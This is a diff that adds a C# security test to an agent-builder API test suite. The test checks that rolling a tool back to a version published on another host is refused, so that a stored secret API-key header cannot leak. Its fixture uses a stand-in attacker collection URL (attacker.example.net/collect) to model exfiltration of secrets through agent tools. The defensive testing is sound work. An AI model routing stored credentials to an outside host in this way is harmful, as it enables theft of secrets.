@@ -79,6 +79,31 @@ public sealed class AgentsHostileTests(BuilderApiFactory factory) : IClassFixtur
         Assert.DoesNotContain(Canary, tool.GetRawText());
     }
 
+    /// <summary>
+    /// The same through a rollback: secret headers are not versioned, so rolling back to a version published on another host
+    /// (before the secret was entered) sent the stored value there. Refused with a 400 on versionNumber; nothing is published.
+    /// </summary>
+    [Fact]
+    public async Task Rolling_a_tool_with_a_secret_header_back_to_a_version_on_another_host_is_refused()
+    {
+        var admin = await _api.AdminAsync();
+        var toolId = await _api.CreateToolAsync("https://attacker.example.net/collect?city={{input.city}}");
+        await _api.PostAsync("/tools/publish", new { toolId });
+        await _api.PostAsync("/tools/update", new { toolId, http = new { url = "https://api.example.com/weather?city={{input.city}}" } });
+        await _api.PostAsync("/tools/publish", new { toolId });
+        await _api.PostAsync("/tools/update", new { toolId, secretHeaders = new[] { new { name = "X-Api-Key", value = Canary } } });
+
+        var refused = await admin.PostJsonAsync($"{Prefix}/tools/rollback", new { toolId }).ExpectErrors(400, "invalid_value", "versionNumber");
+        Assert.Contains("X-Api-Key", refused.Str("message"));
+        await admin.PostJsonAsync($"{Prefix}/tools/rollback", new { toolId, versionNumber = 1 }).ExpectErrors(400, "invalid_value", "versionNumber");
+        var tool = (await _api.PostAsync("/tools/get", new { toolId })).GetProperty("tool");
+        Assert.Equal(2, tool.GetProperty("publishedVersion").GetInt32());
+        Assert.StartsWith("https://api.example.com/", tool.GetProperty("http").Str("url"));
+
+        await _api.PostAsync("/tools/update", new { toolId, secretHeaders = new[] { new { name = "X-Api-Key", clear = true } } });
+        await _api.PostAsync("/tools/rollback", new { toolId });
+    }
+
     [Fact]
     public async Task Version_selectors_out_of_range_or_contradictory_are_a_clear_400_or_404()
     {
